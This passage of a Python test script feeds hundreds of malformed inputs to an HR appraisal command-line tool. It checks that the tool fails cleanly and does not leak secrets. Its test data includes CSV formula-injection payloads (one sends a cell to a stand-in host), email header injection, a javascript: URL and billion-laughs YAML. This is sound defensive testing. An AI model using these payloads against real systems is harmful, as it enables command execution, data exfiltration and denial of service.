"""The campaign of bad inputs of the hardening issue, re-run: every one as a real process.

    .venv/bin/python tests/campaign.py [--postgres URL] [--only TEXT] [--part K/N] [--workers N] [--in-process]

Each input runs `bagalau` (this tree's code) in a subprocess (so a traceback or a hang is what a person would
get) against its own copy of a seeded SQLite database (an organisation imported, a KPI cycle
open), and, for the inputs that reached PostgreSQL in the campaign, against a seeded schema
there. It counts: inputs tried, clean errors (exit 2, one line, no traceback; for `org import`,
its report of every problem with "Nothing loaded"; for `methodology list`, the good
definitions listed and one line per broken file, exit 0), tracebacks,
hangs (over 30 s), database changed, and anything else (accepted, or exit 1). Not a test
module (pytest does not collect it): it takes a few minutes; `tests/test_campaign_sample.py`
plays every 15th input through this same code in the suite.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import uuid
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path

import sqlalchemy as sa

ROOT = Path(__file__).resolve().parent.parent
BAGALAU = str(Path(sys.executable).with_name("bagalau"))
EXAMPLES = ROOT / "examples"
HANG = 30
SCORE = '{{"methodology": "typical2023", "kind": "annual", "quarterly_scores": [{}]}}'
KPIS = json.loads((EXAMPLES / "actions" / "kpis.json").read_text("utf-8"))


@dataclass
class Case:
    name: str
    args: list[str]
    stdin: str = ""
    env: dict[str, str] = field(default_factory=dict)
    files: dict[str, bytes] = field(default_factory=dict)  # written into the case's folder first
    postgres: bool = False
    before: list[list[str]] = field(default_factory=list)  # run first, as the input's setting
    check: Callable[[Path], str | None] | None = None  # a command that must succeed: what its files must not hold
    warns: bool = False  # `methodology list`: succeeds, and names each broken file of `files` in one line


def kpis_with(**change: object) -> str:
    return json.dumps({"kpis": [{**KPIS["kpis"][0], **change}, *KPIS["kpis"][1:]]}, ensure_ascii=False)


def servants_with(column: int, value: str, cut: int | None = None) -> bytes:
    rows = list(csv.reader(io.StringIO((EXAMPLES / "org" / "servants.csv").read_text("utf-8-sig"))))[:2]
    if cut is not None:
        rows[1] = rows[1][:cut]
    else:
        rows[1][column] = value  # the csv module quotes it: a cell may hold CR/LF
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


def cases() -> list[Case]:
    out: list[Case] = []
    act = ["act", "1", "set_kpis", "--as", "1001", "--on", "2026-04-02", "--data"]
    for number in ["1e-999999999", "1e-9999999", "1e-99999999", "9" * 5000, "1e400", "-1e999", "NaN", "Infinity", "-Infinity",
                   "0." + "1" * 40, "1" * 31, "1e-31"]:
        out.append(Case(f"score number {number[:20]}", ["score", "-"], SCORE.format(number)))
        out.append(Case(f"act planned {number[:20]}", [*act, kpis_with().replace('"planned": 100', f'"planned": {number}')]))
    for depth in (33, 1000, 100_000):
        out.append(Case(f"score nested {depth}", ["score", "-"], "[" * depth + "]" * depth))
        out.append(Case(f"act nested {depth}", [*act, "-"], '{"kpis": ' + "[" * depth + "]" * depth + "}"))
    out.append(Case("score duplicate key", ["score", "-"], '{"methodology": "typical2023", "methodology": "mne2017"}'))
    out.append(Case("act duplicate key", [*act, '{"kpis": [], "kpis": []}']))
    out.append(Case("score 3 MB", ["score", "-"], '{"x": "' + "a" * 3_000_000 + '"}'))
    for char in ["\x00", "\r\n", "\x1b", "\x85", "\x7f"]:
        out.append(Case(f"act KPI text {char!r}", [*act, kpis_with(text=f"Audits{char}done")]))
        out.append(Case(f"act KPI text {char!r} (PostgreSQL)", [*act, kpis_with(text=f"Audits{char}done")], postgres=True))
        out.append(Case(f"org import name {char!r}", ["org", "import", "s.csv"], files={"s.csv": servants_with(10, f"Жұмабаев{char}Ерлан")}))
        out.append(Case(f"org import name {char!r} (PostgreSQL)", ["org", "import", "s.csv"],
                        files={"s.csv": servants_with(10, f"Жұмабаев{char}Ерлан")}, postgres=True))
    out.append(Case("org import header injection", ["org", "import", "s.csv"],
                    files={"s.csv": servants_with(10, "Жұмабаев Ерлан\r\nBcc: someone@example.org")}))
    out.append(Case("org import short row", ["org", "import", "s.csv"], files={"s.csv": servants_with(0, "", cut=5)}))
    out.append(Case("org import binary", ["org", "import", "s.csv"], files={"s.csv": b"\xff\xfe\x00\x01binary"}))
    out.append(Case("act zero-width justification", ["act", "1", "set_kpis", "--as", "1001", "--on", "2026-04-02", "--data",
                                                     kpis_with(text="\u200b")]))
    for appraisal in [str(2**70), str(2**63), "-1", "0"]:
        out.append(Case(f"show {appraisal[:12]}", ["show", appraisal, "--as", "1001"]))
        out.append(Case(f"show {appraisal[:12]} (PostgreSQL)", ["show", appraisal, "--as", "1001"], postgres=True))
    for period in ["0000-Q1", "9999-Q4", "2030-Q1", "1999-Q4", "2026-Q5"]:
        out.append(Case(f"cycle open {period}", ["cycle", "open", "vko-audit", "kpi", period, "--on", "2026-04-01"]))
        if period != "2030-Q1":  # the deadlines of a future quarter are a fair question
            out.append(Case(f"deadlines {period}", ["deadlines", "--methodology", "typical2023", "--kind", "kpi", "--period", period]))
    for period in ["9999", "0000", "10000"]:
        out.append(Case(f"deadlines {period}", ["deadlines", "--methodology", "typical2023", "--kind", "annual", "--period", period]))
    for day in ["9999-12-31", "0001-01-01", "2026-02-30"]:
        out.append(Case(f"deadlines event {day}", ["deadlines", "--methodology", "typical2023", "--kind", "annual", "--period", "2026",
                                                   "--event", f"completion={day}"]))
    for day in ["1990-01-01", "2099-01-01", "2026-01-01"]:
        out.append(Case(f"act --on {day}", ["act", "1", "agree", "--as", "1001", "--on", day]))
    out.append(Case("report folder is a file", ["report", "--folder", "afile", "--on", "2026-04-01"], files={"afile": b"x"}))
    out.append(Case("document into a missing folder", ["document", "kpi-sheet", "--appraisal", "1", "--as", "1001", "-o", "none/x.html"]))
    out.append(Case("purge 2062", ["purge", "--on", "2062-01-01"]))
    for address in ["nonsense://x", "garbage", "sqlite:////nonexistent/folder/x.sqlite3", "postgresql://postgres@127.0.0.1:1/test",
                    "postgresql://postgres@127.0.0.1:5432/no_such_database_here", "sqlite:///text.sqlite3"]:
        out.append(Case(f"database {address}", ["notices", "list"], env={"BAGALAU_DATABASE_URL": address},
                        files={"text.sqlite3": b"not a database" * 100}))
    scenario = (EXAMPLES / "scenarios" / "typical2023-year.yaml").read_bytes()
    out.append(Case("simulate until 2027-02-30", ["simulate", "s.yaml"], files={"s.yaml": scenario.replace(b"until: ", b"until: 2027-02-30 #")}))
    out.append(Case("simulate binary", ["simulate", "s.yaml"], files={"s.yaml": b"\xff\xfe\x00binary"}))
    out.append(Case("simulate nonsense database", ["simulate", str(EXAMPLES / "scenarios" / "typical2023-year.yaml"), "--database", "nonsense://"]))
    out.append(Case("simulate non-empty database", ["simulate", str(EXAMPLES / "scenarios" / "typical2023-year.yaml"), "--database", "@DB"]))
    out.append(Case("simulate unknown methodology", ["simulate", "s.yaml"],
                    files={"s.yaml": scenario.replace(b"methodology: typical2023", b"methodology: typical2099")}))
    out.append(Case("simulate duplicate key", ["simulate", "s.yaml"], files={"s.yaml": scenario + b"\ntitle: again\n"}))
    token = "?token=SECRET-TOKEN"
    smtp = {"BAGALAU_SMTP_HOST": "mail.example.org", "BAGALAU_SMTP_FROM": "hr@example.org"}
    for name, env in [
        ("webhook without secret", {"BAGALAU_WEBHOOK_URL": f"https://hooks.example.org/in{token}"}),
        ("webhook ftp", {"BAGALAU_WEBHOOK_URL": f"ftp://hooks.example.org/in{token}", "BAGALAU_WEBHOOK_SECRET": "s"}),
        ("smtp port abc", {**smtp, "BAGALAU_SMTP_PORT": "abc"}),
        ("smtp tls bad", {**smtp, "BAGALAU_SMTP_TLS": "sometimes"}),
        ("smtp without from", {"BAGALAU_SMTP_HOST": "mail.example.org"}),
        ("definitions missing", {"BAGALAU_DEFINITIONS": "/nonexistent/definitions"}),
        ("calendar missing", {"BAGALAU_CALENDAR": "/nonexistent/calendar.yaml"}),
    ]:
        out.append(Case(f"notices deliver: {name}", ["notices", "deliver", "--now", "2026-04-20T09:00"], env=env))
    conflicting = (b"days:\n  - {date: 2026-03-23, working: true, reason: {kk: a, ru: a, en: a}, source: o}\n"
                   b"  - {date: 2026-03-23, working: false, reason: {kk: a, ru: a, en: a}, source: o}\n")
    out.append(Case("calendar conflicting entries", ["workdays", "add", "2026-03-20", "3", "--calendar", "c.yaml"], files={"c.yaml": conflicting}))
    out.append(Case("calendar duplicate key", ["workdays", "add", "2026-03-20", "3", "--calendar", "c.yaml"], files={"c.yaml": b"days: []\ndays: []\n"}))
    out.append(Case("notices show a result to anyone", ["notices", "show", "1"]))
    for more in (org_text, org_xlsx, absences_text, action_text, action_numbers, score_numbers, structures, dates,
                 databases, settings, scenarios, paths, ids, formulas, readers, retention):
        out.extend(more())
    return out


# The row of a servant with every column filled in (dismissed in February, so nothing of
# today's cycles is theirs); a value is broken in its middle, as a paste or a typo would.
ROW = "1009"
FILLED = {"parent_unit_code": "leadership", "probation_end": "2022-05-01", "roles": "hr"}
CONTROLS = {"NUL": "\x00", "CR LF": "\r\n"}


def servants_table() -> list[list[str]]:
    return list(csv.reader(io.StringIO((EXAMPLES / "org" / "servants.csv").read_text("utf-8-sig"))))


def broken(value: str, char: str) -> str:
    middle = max(1, len(value) // 2)
    return value[:middle] + char + value[middle:]


def breaking(char: str) -> Callable[[str], str]:
    return lambda value: broken(value, char)


def servants_csv(column: str, value: Callable[[str], str], *more: str) -> bytes:
    rows = servants_table()
    for each in (column, *more):
        at = rows[0].index(each)
        for row in rows[1:]:
            if row[9] == ROW:
                row[at] = value(row[at] or FILLED[each])
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


def org_text() -> list[Case]:
    """A control character in every column of the servants' CSV; a zero-width space for a name."""
    out = []
    for column in servants_table()[0]:
        for name, char in CONTROLS.items():
            out.append(Case(f"org import CSV {column} {name}", ["org", "import", "s.csv"],
                            files={"s.csv": servants_csv(column, breaking(char))}))
    # A zero-width space alone is a blank cell: refused where a blank is. A name is full_name or
    # surname and given name, so one of the three blank leaves the servant named.
    for columns in (("full_name", "surname", "given_name"), ("unit_name",), ("position_title",), ("state_body_name",)):
        out.append(Case(f"org import CSV {' '.join(columns)} zero-width only", ["org", "import", "s.csv"],
                        files={"s.csv": servants_csv(*columns[:1], lambda _: "\u200b", *columns[1:])}))
    return out


def servants_xlsx(column: str, value: Callable[[str], str]) -> bytes:
    import openpyxl

    book = openpyxl.load_workbook(EXAMPLES / "org" / "organisation.xlsx")
    sheet = book["servants"]
    at = [c.value for c in sheet[1]].index(column) + 1
    for row in sheet.iter_rows(min_row=2):
        if str(row[9].value) == ROW:
            cell = row[at - 1]
            was = cell.value.date().isoformat() if hasattr(cell.value, "date") else str(cell.value or FILLED[column])
            cell.value = value(was)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def org_xlsx() -> list[Case]:
    """Alt+Enter (a line break) in every column of the XLSX; C1 and DEL in the names."""
    out = []
    header = servants_table()[0]
    for column in header:
        out.append(Case(f"org import XLSX {column} line break", ["org", "import", "o.xlsx"],
                        files={"o.xlsx": servants_xlsx(column, lambda v: broken(v, "\n"))}))
    for column in ("full_name", "unit_name", "email"):
        for name, char in (("NEL", "\x85"), ("DEL", "\x7f")):
            out.append(Case(f"org import XLSX {column} {name}", ["org", "import", "o.xlsx"],
                            files={"o.xlsx": servants_xlsx(column, breaking(char))}))
    out.append(Case("org import XLSX that is CSV text", ["org", "import", "o.xlsx"],
                    files={"o.xlsx": (EXAMPLES / "org" / "servants.csv").read_bytes()}))
    out.append(Case("org import XLSX truncated", ["org", "import", "o.xlsx"],
                    files={"o.xlsx": (EXAMPLES / "org" / "organisation.xlsx").read_bytes()[:2000]}))
    return out


def absences_text() -> list[Case]:
    rows = list(csv.reader(io.StringIO((EXAMPLES / "org" / "absences.csv").read_text("utf-8-sig"))))
    out = []
    for at, column in enumerate(rows[0]):
        for name, char in (("NUL", "\x00"),):
            changed = [list(r) for r in rows]
            changed[1][at] = broken(changed[1][at], char)
            text = io.StringIO()
            csv.writer(text).writerows(changed)
            out.append(Case(f"org import absences {column} {name}",
                            ["org", "import", str(EXAMPLES / "org" / "servants.csv"), "--absences", "a.csv"],
                            files={"a.csv": text.getvalue().encode("utf-8")}))
    return out


JUSTIFIED = json.loads((EXAMPLES / "score" / "typical2023-differentiation-staff.json").read_text("utf-8"))["scores"]


def differentiation_with(**change: object) -> str:
    first, *rest = JUSTIFIED
    return json.dumps({"scores": {first: {**JUSTIFIED[first], **change}, **{k: JUSTIFIED[k] for k in rest}}}, ensure_ascii=False)


def action_text() -> list[Case]:
    """Control characters in every text an action takes: KPI text and unit, a justification,
    a hold's reason, the operator's name."""
    out = []
    plan = ["act", "1", "set_kpis", "--as", "1000", "--on", "2026-04-02", "--data"]
    rate = ["act", "5", "score", "--as", "1002", "--on", "2026-04-02", "--data"]
    for name, char in {**CONTROLS, "NEL": "\x85"}.items():
        out.append(Case(f"act KPI unit {name}", [*plan, kpis_with(unit=f"млн{char}теңге")]))
        out.append(Case(f"act KPI direction {name}", [*plan, kpis_with(direction=f"incr{char}ease")]))
        out.append(Case(f"act justification {name}", [*rate, differentiation_with(justification=f"Барлығы{char}ескертусіз")]))
        out.append(Case(f"hold reason {name}", ["hold", "set", "1", "--reason", f"Сот ісі{char}2-113/2026"]))
        out.append(Case(f"operator {name}", ["--operator", f"hr{char}clerk", "hold", "set", "1", "--reason", "Сот ісі 2-113/2026"]))
    out.append(Case("act justification zero-width only", [*rate, differentiation_with(justification="\u200b\u200b")]))
    out.append(Case("act justification NUL (PostgreSQL)", [*rate, differentiation_with(justification="a\x00b")], postgres=True))
    out.append(Case("act KPI unit NUL (PostgreSQL)", [*plan, kpis_with(unit="a\x00b")], postgres=True))
    return out


NUMBERS = ["1e-999999999", "9" * 5000, "1e400", "NaN", "0." + "1" * 40, "4.1234567"]


def action_numbers() -> list[Case]:
    """Huge, tiny and long numbers in every numeric field of an action."""
    out = []
    for number in NUMBERS:
        tag = number[:20]
        out.append(Case(f"act actuals {tag}", ["act", "2", "send_actuals", "--as", "1011", "--on", "2026-04-03", "--data",
                                               '{"actuals": [%s, 250, 3]}' % number]))
        out.append(Case(f"act KPI scores {tag}", ["act", "2", "score", "--as", "1001", "--on", "2026-04-06", "--data",
                                                  '{"scores": [%s, 5, 5]}' % number]))
        out.append(Case(f"act differentiation score {tag}", ["act", "5", "score", "--as", "1002", "--on", "2026-04-02", "--data",
                                                             differentiation_with(score=0).replace('"score": 0', f'"score": {number}')]))
    return out


def score_numbers() -> list[Case]:
    """The same numbers in every numeric field of each kind of sheet `score` takes."""
    sheets = {
        "mne2017 bonus_points": '{"methodology": "mne2017", "kind": "quarterly", "bonus_points": [%s, 2], "violations": 0}',
        "mne2017 violations": '{"methodology": "mne2017", "kind": "quarterly", "bonus_points": [3, 2], "violations": %s}',
        "mne2017 plan": '{"methodology": "mne2017", "kind": "plan", "indicator_scores": [%s, 5, 3, 4]}',
        "differentiation": '{"methodology": "typical2023", "kind": "differentiation", "scores": {"quality": {"score": %s, '
                           '"justification": "Жауапты хаттар"}}}',
    }
    return [Case(f"score {name} {number[:20]}", ["score", "-"], sheet % number)
            for name, sheet in sheets.items() for number in NUMBERS[:4]]


def structures() -> list[Case]:
    """Deep, large and duplicate-key JSON and YAML wherever they are read."""
    act = ["act", "1", "set_kpis", "--as", "1000", "--on", "2026-04-02", "--data"]
    deep_yaml = b"title: " + b"[" * 50_000 + b"]" * 50_000 + b"\n"
    laughs = b"a: &a [x, x, x, x, x, x, x, x, x]\n" + b"".join(
        b"%c: &%c [*%c, *%c, *%c, *%c, *%c, *%c, *%c, *%c, *%c]\n" % ((c,) * 2 + (c - 1,) * 9) for c in range(ord("b"), ord("k")))
    return [
        Case("act 3 MB", [*act, "-"], '{"kpis": [{"text": "' + "а" * 3_000_000 + '"}]}'),
        Case("act nested key duplicate", [*act, '{"kpis": [{"text": "a", "text": "b", "unit": "%", "planned": 1, "direction": "increase"}]}']),
        Case("act data not an object", [*act, '[1, 2, 3]']),
        Case("act data truncated", [*act, '{"kpis": [{"text": "a"']),
        Case("act data @missing file", [*act, "@kpis.json"]),
        Case("score duplicate nested key", ["score", "-"], '{"methodology": "typical2023", "kind": "differentiation", '
             '"scores": {"quality": {"score": 4, "score": 5, "justification": "x"}}}'),
        Case("score empty input", ["score", "-"], ""),
        Case("simulate YAML nested 50000", ["simulate", "s.yaml"], files={"s.yaml": deep_yaml}),
        Case("simulate YAML billion laughs", ["simulate", "s.yaml"], files={"s.yaml": laughs}),
        Case("calendar billion laughs", ["workdays", "add", "2026-03-20", "3", "--calendar", "c.yaml"], files={"c.yaml": laughs}),
        Case("definitions with a duplicate key", ["methodology", "list"], env={"BAGALAU_DEFINITIONS": "defs"}, warns=True,
             files={"defs/x.yaml": ((ROOT / "methodology" / "definitions" / "typical2023.yaml").read_bytes()
                                    .replace(b"\nid: typical2023", b"\nid: typical2099\nid: typical2098"))}),
        Case("definitions YAML that is not a mapping", ["methodology", "list"], env={"BAGALAU_DEFINITIONS": "defs"}, warns=True,
             files={"defs/x.yaml": b"- just\n- a list\n"}),
    ]


def dates() -> list[Case]:
    """Impossible days and periods out of range, in every command that takes one."""
    out = []
    for period in ["2026-Q0", "2026Q1", "2026-13", "２０２６-Q1"]:  # spaces around a period are trimmed, by design
        out.append(Case(f"cycle open {period!r}", ["cycle", "open", "vko-audit", "kpi", period, "--on", "2026-04-01"]))
    for day in ["2026-02-29", "2026-13-01", "02.04.2026", "0000-00-00"]:
        out.append(Case(f"act --on {day}", ["act", "1", "set_kpis", "--as", "1000", "--on", day, "--data", kpis_with()]))
    for day in ["2026-02-30", "9999-12-31"]:
        out.append(Case(f"report --on {day}", ["report", "--folder", "out", "--on", day]))
        out.append(Case(f"open-cycles --on {day}", ["open-cycles", "--on", day]))
        out.append(Case(f"appraisals list --overdue --on {day}", ["appraisals", "list", "--overdue", "--on", day]))
    out.append(Case("report --since after --on", ["report", "--folder", "out", "--on", "2026-04-01", "--since", "2026-05-01"]))
    for moment in ["2026-04-20T25:00", "9999-12-31T23:59", "2026-04-20 09:00:00+99:00"]:
        out.append(Case(f"sweep --now {moment}", ["sweep", "--now", moment]))
        out.append(Case(f"notices deliver --now {moment}", ["notices", "deliver", "--now", moment]))
    for day in ["2026-02-30", "9999-12-31"]:
        out.append(Case(f"workdays add {day}", ["workdays", "add", day, "3"]))
    out.append(Case("workdays add 10**9 days", ["workdays", "add", "2026-03-20", "1000000000"]))
    out.append(Case("workdays add -10**9 days", ["workdays", "add", "2026-03-20", "--", "-1000000000"]))
    return out


def databases() -> list[Case]:
    """More URLs a person could paste, one with its password, which must never be printed."""
    return [Case(f"database {address}", ["notices", "list"], env={"BAGALAU_DATABASE_URL": address}, files={"folder/.keep": b""})
            for address in ["postgresql://postgres:SECRET-TOKEN@127.0.0.1:1/test", "mysql://hr:SECRET-TOKEN@127.0.0.1/bagalau",
                            "sqlite:///folder", "postgresql://postgres@127.0.0.1:5432/test?sslmode=sometimes",
                            "postgresql://postgres@127.0.0.1:notaport/test", "sqlite:///:memory:x/y", "postgres://"]]


def settings() -> list[Case]:
    smtp = {"BAGALAU_SMTP_HOST": "mail.example.org", "BAGALAU_SMTP_FROM": "hr@example.org"}
    bad = [
        ("smtp port 70000", {**smtp, "BAGALAU_SMTP_PORT": "70000"}),
        ("smtp port -1", {**smtp, "BAGALAU_SMTP_PORT": "-1"}),
        ("smtp port 25.5", {**smtp, "BAGALAU_SMTP_PORT": "25.5"}),
        ("smtp from not an address", {**smtp, "BAGALAU_SMTP_FROM": "HR department"}),
        ("smtp from with a header", {**smtp, "BAGALAU_SMTP_FROM": "hr@example.org\r\nBcc: someone@example.org"}),
        ("smtp host with a line break", {**smtp, "BAGALAU_SMTP_HOST": "mail.example.org\nX: y"}),
        ("webhook not a URL", {"BAGALAU_WEBHOOK_URL": "hooks example org SECRET-TOKEN", "BAGALAU_WEBHOOK_SECRET": "s"}),
        ("webhook javascript", {"BAGALAU_WEBHOOK_URL": "javascript:alert(1)//SECRET-TOKEN", "BAGALAU_WEBHOOK_SECRET": "s"}),
        ("webhook no host", {"BAGALAU_WEBHOOK_URL": "https://?token=SECRET-TOKEN", "BAGALAU_WEBHOOK_SECRET": "s"}),
        ("definitions a file", {"BAGALAU_DEFINITIONS": "afile"}),
        ("calendar a folder", {"BAGALAU_CALENDAR": "folder"}),
        ("calendar binary", {"BAGALAU_CALENDAR": "afile"}),
    ]
    out = [Case(f"notices deliver: {name}", ["notices", "deliver", "--now", "2026-04-20T09:00"], env=env,
                files={"afile": b"\xff\xfe\x00", "folder/.keep": b""}) for name, env in bad]
    out += [Case(f"BAGALAU_LANG={lang!r}", ["show", "1", "--as", "1001"], env={"BAGALAU_LANG": lang}) for lang in ("fr", "KK ")]  # an empty variable is an unset one
    out += [Case(f"--lang {lang}", ["show", "1", "--as", "1001", "--lang", lang]) for lang in ("de", "kk\x00")]
    return out


def scenarios() -> list[Case]:
    scenario = (EXAMPLES / "scenarios" / "typical2023-year.yaml").read_bytes()
    bad = {
        "empty": b"",
        "null": b"null\n",
        "a list": b"- 1\n- 2\n",
        "without until": scenario.replace(b"\nuntil: ", b"\n#until: "),
        "until 9999-12-31": scenario.replace(b"until: ", b"until: 9999-12-31 #"),
        "until 1999-01-01": scenario.replace(b"until: ", b"until: 1999-01-01 #"),
        "unknown key": scenario + b"\nsurprise: true\n",
        "duplicate person": scenario.replace(b"{id: marat,", b"{id: akim,"),
        "unknown manager": scenario.replace(b"manager: akim,", b"manager: nobody,", 1),
        "name with NUL": scenario.replace("Марат Қуанышұлы Жұмабаев".encode(), b"\x00"),
    }
    out = [Case(f"simulate {name}", ["simulate", "s.yaml"], files={"s.yaml": content}) for name, content in bad.items()]
    out.append(Case("simulate a folder", ["simulate", "folder"], files={"folder/.keep": b""}))
    out.append(Case("simulate a missing file", ["simulate", "missing.yaml"]))
    return out


def paths() -> list[Case]:
    """-o, --folder and the files given to commands: missing, a folder, a file in the way."""
    doc = ["document", "kpi-sheet", "--appraisal", "1", "--as", "1001"]
    files = {"afile": b"x", "folder/.keep": b""}
    return [
        Case("document -o a folder", [*doc, "-o", "folder"], files=files),
        Case("document -o under a file", [*doc, "-o", "afile/x.html"], files=files),
        Case("document -o empty", [*doc, "-o", ""], files=files),
        Case("report --folder under a file", ["report", "--folder", "afile/sub", "--on", "2026-04-01"], files=files),
        Case("report --folder empty", ["report", "--folder", "", "--on", "2026-04-01"], files=files),
        Case("forms an unknown unit", ["forms", "vko-audit", "2026-Q1", "--unit", "no-such-unit"], files=files),
        Case("forms an unknown body", ["forms", "no-such-body", "2026-Q1"], files=files),
        Case("diagrams --out a missing folder", ["diagrams", "--out", "none/d.md"], files=files),
        Case("diagrams --out a folder", ["diagrams", "--out", "folder"], files=files),
        Case("org import a missing file", ["org", "import", "missing.csv"], files=files),
        Case("org import a folder", ["org", "import", "folder"], files=files),
        Case("org import an empty file", ["org", "import", "e.csv"], files={"e.csv": b""}),
        Case("org import --absences missing", ["org", "import", str(EXAMPLES / "org" / "servants.csv"), "--absences", "none.csv"]),
        Case("workdays --calendar missing", ["workdays", "add", "2026-03-20", "3", "--calendar", "none.yaml"]),
    ]


def ids() -> list[Case]:
    """Ids and personnel numbers out of range wherever a command takes one."""
    out = []
    for value in [str(2**70), "-1"]:
        out.append(Case(f"act {value[:12]}", ["act", value, "set_kpis", "--as", "1000", "--on", "2026-04-02", "--data", kpis_with()]))
        out.append(Case(f"hold set {value[:12]}", ["hold", "set", value, "--reason", "Сот ісі 2-113/2026"]))
        out.append(Case(f"document --appraisal {value[:12]}", ["document", "kpi-sheet", "--appraisal", value, "--as", "1001"]))
        out.append(Case(f"notices show {value[:12]}", ["notices", "show", value, "--as", "1001"]))
    for person in ["1" * 40, "1001\x00", ""]:
        out.append(Case(f"--as {person[:12]!r}", ["show", "1", "--as", person]))
    out.append(Case("act --as 2^70 (PostgreSQL)", ["act", str(2**70), "agree", "--as", "1001"], postgres=True))
    out.append(Case("act --version 2^70", ["act", "1", "set_kpis", "--as", "1000", "--on", "2026-04-02", "--version", str(2**70),
                                           "--data", kpis_with()]))
    out.append(Case("appraisals list --limit 10**6", ["appraisals", "list", "--limit", "1000000"]))
    out.append(Case("appraisals list --offset 2^70", ["appraisals", "list", "--offset", str(2**70)]))
    out.append(Case("sweep --batch 0", ["sweep", "--batch", "0", "--now", "2026-04-20T09:00"]))
    return out


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "=1+1"]


def formulas() -> list[Case]:
    """A name that looks like a formula reaches the compliance report's CSV and XLSX as text."""
    out = []
    for column in ("full_name", "unit_name"):
        for formula in FORMULAS[:4] if column == "unit_name" else FORMULAS:
            rows = servants_table()
            at = rows[0].index(column)
            for row in rows[1:]:
                if row[9] == "1002" or (column == "unit_name" and row[3] == rows[3][3]):
                    row[at] = formula
            text = io.StringIO()
            csv.writer(text).writerows(rows)
            out.append(Case(f"formula {column} {formula[:16]!r} into the report", ["report", "--folder", "out", "--on", "2026-04-20"],
                            files={"s.csv": text.getvalue().encode("utf-8")}, before=[["org", "import", "s.csv"]],
                            check=no_live(formula)))
    return out


def no_live(formula: str) -> Callable[[Path], str | None]:
    return lambda folder: live_formula(folder / "out", formula)


def live_formula(folder: Path, formula: str) -> str | None:
    """What of `formula` a spreadsheet would run: a cell that starts it, in the CSV or the XLSX."""
    import openpyxl

    written = sorted(folder.glob("*.csv")), sorted(folder.glob("*.xlsx"))
    if not written[0] or not written[1]:
        return "no CSV or XLSX written"
    for path in written[0]:
        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))):
            if formula in row:
                return f"{path.name}: the cell starts with {formula[0]!r}"
    for path in written[1]:
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                if any(cell.data_type == "f" or cell.value == formula for cell in row):
                    return f"{path.name}: a live formula"
    return None


def readers() -> list[Case]:
    """A notice carrying a score, asked for by people it was not written for."""
    return [Case(f"notices show the score to {who}", ["notices", "show", "@SCORED", *args])
            for who, args in (("nobody named", []), ("a colleague", ["--as", "1004"]), ("the head of another body", ["--as", "2001"]),
                              ("an unknown number", ["--as", "9999"]), ("a dismissed servant", ["--as", "1009"]))]


def retention() -> list[Case]:
    """The guards of purging: a day after today, a day that is not one, a hold without a reason."""
    tomorrow = (date.today() + timedelta(days=1)).isoformat()
    return [
        Case("purge tomorrow", ["purge", "--on", tomorrow]),
        Case("purge 9999-12-31", ["purge", "--on", "9999-12-31"]),
        Case("purge --dry-run 2062", ["purge", "--dry-run", "--on", "2062-01-01"]),
        Case("purge --on 2062-02-30", ["purge", "--on", "2062-02-30"]),
        Case("purge --on next year", ["purge", "--on", "next year"]),
        Case("hold set without a reason", ["hold", "set", "1"]),
        Case("hold set reason blank", ["hold", "set", "1", "--reason", "   "]),
        Case("hold release not held", ["hold", "release", "1", "--reason", "Шешім заңды күшіне енді"]),
        Case("hold set reason 100 KB", ["hold", "set", "1", "--reason", "a" * 100_000]),  # ASCII: a Cyrillic 100 K is over the 128 KB an argument may hold
    ]


def environment(url: str) -> dict[str, str]:
    """This tree's code on the database `url`, in English, and none of the caller's own
    settings (a test's definitions folder, a Prefect server the suite started)."""
    own = {k: v for k, v in os.environ.items() if not k.startswith(("BAGALAU_", "PREFECT_API_URL"))}
    return {**own, "PYTHONPATH": str(ROOT), "BAGALAU_DATABASE_URL": url, "BAGALAU_LANG": "en"}


def seed(url: str, more: bool = True) -> None:
    """An organisation imported and its Q1 KPI cycle open; on SQLite also its differentiation
    cycle, and one KPI sheet scored (appraisal 2), whose notices carry a score."""
    env = environment(url)
    steps = [["db", "upgrade"], ["org", "import", str(EXAMPLES / "org" / "servants.csv")],
             ["cycle", "open", "vko-audit", "kpi", "2026-Q1", "--on", "2026-04-01"]]
    if more:
        steps += [["cycle", "open", "vko-audit", "differentiation", "2026-Q1", "--on", "2026-04-01"],
                  ["act", "2", "set_kpis", "--as", "1001", "--on", "2026-04-02", "--data", json.dumps(KPIS, ensure_ascii=False)],
                  ["act", "2", "place_plan", "--as", "1011", "--on", "2026-04-02"],  # typical2023 п.23
                  ["act", "2", "send_actuals", "--as", "1011", "--on", "2026-04-03", "--data", '{"actuals": [100, 250, 3]}'],
                  ["act", "2", "score", "--as", "1001", "--on", "2026-04-06", "--data", '{"scores": [5, 5, 5]}']]
    for args in steps:
        done = run(args, "", env, Path.cwd(), 30 * HANG)
        assert done is not None and done.returncode == 0, (args, done)
    if IN_PROCESS[0]:
        from models.db import engine

        engine(url).dispose()  # closing checkpoints SQLite's WAL into the file the inputs copy


def scored_notice(url: str) -> str:
    """The id of a notice of appraisal 2's score (to its servant), for `notices show`."""
    engine = sa.create_engine(url)
    try:
        with engine.connect() as connection:
            return str(connection.execute(sa.text("select min(id) from notice where event = 'score' and appraisal_id = 2")).scalar_one())
    finally:
        engine.dispose()


def digest(url: str) -> str:
    engine = sa.create_engine(url.replace("postgresql://", "postgresql+psycopg://"))
    try:
        with engine.connect() as connection:
            names = sorted(t for t in sa.inspect(connection).get_table_names() if t != "alembic_version")
            rows = [(n, sorted(map(repr, connection.execute(sa.text(f'select * from "{n}"'))))) for n in names]
        return hashlib.sha256(repr(rows).encode()).hexdigest()
    finally:
        engine.dispose()


IN_PROCESS: list[bool] = [False]  # --in-process: the same entry point, called in this process


def run(args: list[str], stdin: str, env: dict[str, str], cwd: Path, hang: int) -> subprocess.CompletedProcess[str] | None:
    """`bagalau ARGS` as a process, or in this one; None when it outran `hang` seconds."""
    if not IN_PROCESS[0]:
